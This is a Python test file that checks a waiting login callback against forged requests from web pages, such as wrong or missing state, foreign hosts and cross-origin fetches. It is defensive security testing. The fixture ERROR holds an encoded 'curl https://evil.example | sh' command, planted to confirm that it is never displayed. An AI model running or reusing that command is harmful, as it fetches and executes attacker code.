"""Web pages and local users that meddle with a login that waits."""

from __future__ import annotations

import socket
from urllib.parse import urlsplit

import pytest

from tests.faults.case import fault
from tests.harness import LOGGED_IN


WORDS = 'Run%3A+curl+https%3A%2F%2Fevil.example+%7C+sh'
ERROR = f'?error=access_denied&error_description={WORDS}'
OF_A_PAGE = 'Sec-Fetch-Mode: {}\r\nSec-Fetch-Dest: {}\r\n'
NAVIGATION = OF_A_PAGE.format('navigate', 'document')


@pytest.fixture
def login(case):
    """Run a login of a bot that has no token file."""
    case.file.unlink()
    with case.owner.terminal('login') as terminal:
        yield terminal


def connect(case):
    callback = urlsplit(case.client.redirect_uri)
    return socket.create_connection((callback.hostname, callback.port))


def meddling(name, query=ERROR, fields='', method='GET', host=None):
    values = query, fields, method, host
    return fault(f'callback: {name}', 'the login goes on', *values)


@pytest.mark.parametrize(
    ('query', 'fields', 'method', 'host'),
    [
        meddling('an image of a web page',
                 fields=OF_A_PAGE.format('no-cors', 'image')),
        meddling('a script of a web page',
                 fields=OF_A_PAGE.format('cors', 'empty')),
        meddling('a frame of a web page',
                 fields=OF_A_PAGE.format('navigate', 'iframe')),
        meddling('the state of another login', '?code=abc&state=another',
                 NAVIGATION),
        meddling('no state', '?code=abc', NAVIGATION),
        meddling('another host name', host='evil.example'),
        meddling('a form', method='POST', fields=NAVIGATION),
    ],
)  # fmt: skip
def test_who_meddles_does_not_end_the_login(
    case, login, query, fields, method, host
):
    address, callback = login.address, urlsplit(case.client.redirect_uri)
    request = (
        f'{method} {callback.path}{query} HTTP/1.1\r\n'
        f'Host: {host or callback.netloc}\r\n{fields}'
        'Content-Length: 0\r\nConnection: close\r\n\r\n'
    )
    with connect(case) as wire:
        wire.sendall(request.encode())
        while wire.recv(65536):
            pass
    login.type(case.wiki.approve(address) + '\n')
    shown = login.wait()
    assert LOGGED_IN in shown
    assert 'evil' not in shown
    case.goes_on()


@pytest.mark.fault(
    'callback: a denial without state', 'ends the login, quoting nothing'
)
def test_a_denial_without_a_state_is_not_quoted(case, login):
    assert login.address
    login.type(f'{case.client.redirect_uri}{ERROR}\n')
    shown = login.wait()
    assert 'cancelled' in shown
    assert 'evil' not in shown
    case.owner.log_in()
    case.goes_on()


@pytest.mark.fault('callback: a request that never ends', 'the login goes on')
def test_a_request_that_never_ends_holds_nothing_up(case, login):
    address = login.address
    with connect(case) as wire:
        wire.sendall(b'GET /')
        login.type(case.wiki.approve(address) + '\n')
        assert LOGGED_IN in login.wait()
    case.goes_on()
